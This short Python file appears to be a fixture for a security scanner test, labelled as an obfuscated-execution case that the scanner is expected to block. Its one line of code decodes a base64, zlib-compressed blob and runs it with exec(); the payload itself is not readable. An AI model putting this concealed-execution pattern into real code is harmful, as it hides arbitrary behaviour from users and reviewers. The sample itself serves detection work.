# expect: BLOCKED category: obfuscated_exec variant-of: risky/obfuscated_exec/chr_list_exec.py technique: exec-wrapped
import base64, zlib
exec(zlib.decompress(base64.b64decode('eJw1TcsKwjAQvPcrhnpJoJSuRsGDR79CPMTtllZsFzYt+Pkmipd5wswO17fwtkpC0s1YEFOS+fGSHoPpDB6jRV7FwNpLaqsv4YIb0b4BUcjQHYvqCpwahCwO5xL/u+IC3SvJX66u26dOi+PRHHsMmqcxLb997z+qLSl2')))
